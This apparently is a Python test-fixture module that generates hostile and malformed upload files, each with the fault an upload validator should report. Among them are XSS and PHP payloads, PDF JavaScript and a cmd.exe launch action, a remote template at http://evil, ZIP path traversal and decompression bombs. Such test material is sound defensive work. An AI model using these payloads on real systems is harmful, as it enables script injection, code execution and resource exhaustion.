"""Files made to hurt, each with what must become of it: a fault's code, or `None` for made harmless."""

import io
import struct
import zipfile
import zlib
from typing import Any

from PIL import Image
from PIL.PngImagePlugin import PngInfo

SCRIPT = b"<script>alert(1)</script>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WORD = "wordprocessingml.document.main+xml"


def drawn(
    kind: str = "JPEG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **more: Any
) -> bytes:
    """A picture with something to be seen in it."""
    written = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(written, kind, **more)
    return written.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int, height: int, rows: bytes, *more: bytes) -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    data = chunk(b"IDAT", zlib.compress(rows, 9))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(more) + data + chunk(b"IEND", b"")


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose head says another size."""
    content = bytearray(drawn())
    at = content.index(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def with_segment(marker: int, data: bytes) -> bytes:
    plain = drawn()
    return (
        plain[:2] + b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data + plain[2:]
    )


def animated(kind: str) -> bytes:
    frames = [Image.new("RGB", (32, 32), colour) for colour in ("red", "green", "blue")]
    written = io.BytesIO()
    frames[0].save(written, kind, save_all=True, append_images=frames[1:])
    return written.getvalue()


def office(
    members: dict[str, bytes] | None = None, kinds: bytes | None = None, **more: bytes
) -> bytes:
    """A docx with these members beside its own."""
    named = {
        "[Content_Types].xml": kinds or f"<Types>{WORD}</Types>".encode(),
        "word/document.xml": b"<w:document/>",
        **(members or {}),
        **more,
    }
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in named.items():
            archive.writestr(name, content)
    return held.getvalue()


def lying(content: bytes) -> bytes:
    """A ZIP whose directory says that everything is small."""
    changed = bytearray(content)
    at = 0
    while (at := changed.find(b"PK\x01\x02", at)) >= 0:
        changed[at + 24 : at + 28] = struct.pack("<I", 10)
        at += 4
    return bytes(changed)


def locked(content: bytes) -> bytes:
    changed = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = 0
        while (at := changed.find(mark, at)) >= 0:
            changed[at + place] |= 1
            at += 4
    return bytes(changed)


def twice_named() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("[Content_Types].xml", f"<Types>{WORD}</Types>")
        archive.writestr("word/document.xml", b"<a/>")
        archive.writestr("word/Document.xml", b"<b/>")
    return held.getvalue()


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % (at, one) for at, one in enumerate(objects, 1))
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def packed_objects(content: bytes) -> bytes:
    packed = zlib.compress(content, 9)
    return b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + packed + b"\nendstream"


def with_exif_bomb() -> bytes:
    return with_segment(0xE1, b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\xff\xff" + b"\xff" * 60_000)


def text_chunks() -> bytes:
    told = PngInfo()
    for at in range(50):
        told.add_text(f"key{at}", "31.2989,120.5853 " * 50, zip=True)
    return drawn("PNG", pnginfo=told)


def text_bomb() -> bytes:
    data = b"Comment\x00\x00" + zlib.compress(b"A" * 80_000_000, 9)
    return png(8, 8, (b"\0" + b"\x7f" * 24) * 8, chunk(b"zTXt", data))


def icc_bomb() -> bytes:
    data = b"icc\x00\x00" + zlib.compress(b"A" * 200_000_000, 9)
    return png(8, 8, (b"\0" + b"\x7f" * 24) * 8, chunk(b"iCCP", data))


def with_icc() -> bytes:
    from PIL import ImageCms

    return drawn(icc_profile=ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())


def with_place() -> bytes:
    from PIL.ExifTags import GPS, IFD, Base

    image = Image.linear_gradient("L").convert("RGB")
    exif = image.getexif()
    exif[Base.Make] = "CameraOfTest"
    exif.get_ifd(IFD.GPSInfo)[GPS.GPSLatitude] = (31.0, 17.0, 56.0)
    written = io.BytesIO()
    image.save(written, "JPEG", exif=exif, comment=b"taken at 31.2989")
    return written.getvalue()


def heif(brand: bytes = b"heic") -> bytes:
    return b"\x00\x00\x00\x18ftyp" + brand + b"\x00" * 200


def tree_of_zips() -> bytes:
    held = office({"word/embeddings/a.docx": office({"word/embeddings/b.docx": office()})})
    return office({"word/embeddings/c.docx": held})


MILLIONS = b"\0" * 100_000_000
RELS = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def make_all() -> dict[str, tuple[bytes, str | None]]:
    """Name -> (content, the fault, or None where it is made harmless or was harmless)."""
    picture, plain_pdf = drawn(), pdf(b"<< /Type /Catalog >>")
    return {
        # nothing, or nothing known
        "nothing": (b"", "missing"),
        "one byte": (b"\x00", "not_a_choice"),
        "8 MB and one": (b"x" * (8 * 1024 * 1024 + 1), "too_large"),
        "random": (bytes(range(256)) * 40, "not_a_choice"),
        "a Windows program": (b"MZ" + b"\x90\x00" * 500, "not_a_choice"),
        "a Linux program": (b"\x7fELF" + b"\x00" * 500, "not_a_choice"),
        "a gzip": (b"\x1f\x8b\x08\x00" + b"\x00" * 90, "not_a_choice"),
        "a RAR": (b"Rar!\x1a\x07\x00" + b"\x00" * 90, "not_a_choice"),
        "UTF-16": ("清点".encode("utf-16"), "not_a_choice"),
        "NUL in a text": (b"counted\x00forty", "not_a_choice"),
        "a text written backwards": ("gpj.\u202e清点".encode(), "not_a_choice"),
        # texts
        "SVG with script": (
            b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
            "not_a_choice",
        ),
        "SVG behind a declaration": (
            b"<?xml version='1.0'?><svg onload='alert(1)'/>",
            "not_a_choice",
        ),
        "HTML called .jpg": (b"<!doctype html><body onload=alert(1)>", "not_a_choice"),
        "HTML behind words": (b"counted 40\n" + SCRIPT, "has_markup"),
        "PHP behind words": (b"counted 40 <?php system('id');", "has_markup"),
        "a frame behind words": (b"see < iframe src=//evil>", "has_markup"),
        "the virus mark": (EICAR, "has_virus_mark"),
        "the virus mark in a PDF": (pdf(EICAR), "has_virus_mark"),
        "the virus mark in a docx": (office({"word/media/a.txt": EICAR}), "has_virus_mark"),
        # pictures of other kinds
        "GIF": (drawn("GIF"), "not_a_choice"),
        "GIF and JavaScript": (b"GIF89a/*" + b"\x00" * 30 + b"*/=1;alert(1)//", "not_a_choice"),
        "BMP": (drawn("BMP"), "not_a_choice"),
        "TIFF": (drawn("TIFF"), "not_a_choice"),
        "ICO": (drawn("ICO", (32, 32)), "not_a_choice"),
        "PPM": (drawn("PPM"), "not_a_choice"),
        "PSD": (b"8BPS\x00\x01" + b"\x00" * 60, "not_a_choice"),
        "EPS": (b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run\n" + b"\x80", "not_a_choice"),
        "HEIC": (heif(), "is_heic"),
        "AVIF": (heif(b"avif"), "is_heic"),
        # pictures that are traps
        "PNG of 60,000 by 60,000": (png(60_000, 60_000, b"\0" * 1_000_000), "not_a_picture"),
        "PNG of 2^31 by 1": (png(2**31 - 1, 1, b"\0" * 100), "not_a_picture"),
        "PNG with rows for a hundred": (png(8, 8, MILLIONS), None),
        "PNG of no size": (png(0, 0, b""), "not_a_picture"),
        "JPEG of 65,500 by 65,500": (jpeg_of(65_500, 65_500), "not_a_picture"),
        "JPEG of more than it has": (jpeg_of(640, 480), None),
        "JPEG cut off": (picture[: len(picture) * 2 // 3], "not_a_picture"),
        "JPEG of three bytes": (b"\xff\xd8\xff", "not_a_picture"),
        "PNG cut off": (drawn("PNG")[:80], "not_a_picture"),
        "PNG with a wrong sum": (drawn("PNG").replace(b"IDAT", b"IDAX"), "not_a_picture"),
        "WebP cut off": (drawn("WEBP")[:60], "not_a_picture"),
        "WebP of nothing": (b"RIFF\x10\x00\x00\x00WEBPVP8 ", "not_a_picture"),
        "text chunks": (text_chunks(), None),
        "a text chunk of 80 MB": (text_bomb(), "not_a_picture"),
        "a colour profile of 200 MB": (icc_bomb(), "not_a_picture"),
        "a colour profile": (with_icc(), None),
        "CMYK": (drawn(mode="CMYK"), None),
        "16 bits of grey": (drawn("PNG", mode="I;16"), None),
        "a palette with transparency": (drawn("PNG", mode="P", transparency=0), None),
        "progressive": (drawn(progressive=True), None),
        "APNG": (animated("PNG"), None),
        "animated WebP": (animated("WEBP"), None),
        "two pictures in one (MPO)": (animated("MPO"), None),
        "EXIF with a position": (with_place(), None),
        "EXIF without an end": (with_exif_bomb(), None),
        "a comment with script": (with_segment(0xFE, SCRIPT), None),
        "script behind the end": (picture + SCRIPT, None),
        "a film behind the end": (picture + b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 500, None),
        "a ZIP behind the end": (picture + office(), "two_in_one"),
        "a PDF in a comment": (with_segment(0xFE, b"%PDF-1.7 1 0 obj"), "two_in_one"),
        "48 million pixels": (drawn(size=(8064, 5952)), None),
        # documents
        "PDF": (plain_pdf, None),
        "PDF and ZIP": (plain_pdf + office(), "two_in_one"),
        "PDF and HTML": (b"%PDF-1.7\n<html>" + SCRIPT + plain_pdf, "two_in_one"),
        "PDF with JavaScript": (pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "has_program"),
        "PDF with hidden JavaScript": (pdf(b"<< /S /#4a#61vaScript /J#53 (x) >>"), "has_program"),
        "PDF with packed JavaScript": (pdf(packed_objects(b"<< /JS (x) >>")), "has_program"),
        "PDF that starts a program": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), "has_program"),
        "PDF with a file inside": (pdf(b"<< /Type /EmbeddedFile >>"), "has_program"),
        "PDF with a password": (pdf(b"<< /Encrypt 5 0 R >>"), "is_locked"),
        "PDF that unpacks to 1 GB": (
            pdf(packed_objects(zlib.decompress(zlib.compress(MILLIONS + MILLIONS)))),
            "too_large_unpacked",
        ),
        "PDF of a million streams": (b"%PDF-1.7\n" + b"stream\n" * 600_000, None),
        "docx": (office(), None),
        "docm called docx": (
            office(kinds=b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"),
            "has_program",
        ),
        "a macro": (office({"word/vbaProject.bin": b"x"}), "has_program"),
        "an OLE object": (office({"word/embeddings/oleObject1.bin": b"x"}), "has_program"),
        "a program in a docx": (office({"word/media/photo.png": b"MZ\x90"}), "has_program"),
        "a template from elsewhere": (
            office({"word/_rels/settings.xml.rels": RELS}),
            "has_program",
        ),
        "a docx of 300 MB": (
            office({"word/a.xml": MILLIONS, "word/b.xml": MILLIONS}),
            "too_large_unpacked",
        ),
        "a docx that lies about its size": (
            lying(office({"word/a.xml": MILLIONS})),
            "not_a_document",
        ),
        "a docx of 3,000 parts": (
            office({f"word/{at}.xml": b"" for at in range(3_000)}),
            "too_large_unpacked",
        ),
        "docx in docx in docx": (tree_of_zips(), "two_in_one"),
        "a plain ZIP": (office(kinds=b"<Types/>"), "not_a_choice"),
        "ZIP members above their folder": (office({"../../etc/passwd": b"x"}), "not_a_document"),
        "ZIP members with a NUL or backslash": (
            office({"word\\..\\x.xml": b"x"}),
            "not_a_document",
        ),
        "ZIP members named twice": (twice_named(), "not_a_document"),
        "billions of laughs": (
            office({"word/x.xml": b"<!DOCTYPE a [<!ENTITY b 'ha'>]>"}),
            "not_a_document",
        ),
        "a docx with a password": (locked(office()), "is_locked"),
        "a docx cut off": (office()[:100], "two_in_one"),
        "something behind a docx": (office() + SCRIPT, "two_in_one"),
        "a script before a docx": (b"PK\x03\x04" + SCRIPT + office(), "two_in_one"),
        "an old or locked Office file": (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
            "is_old_office",
        ),
    }
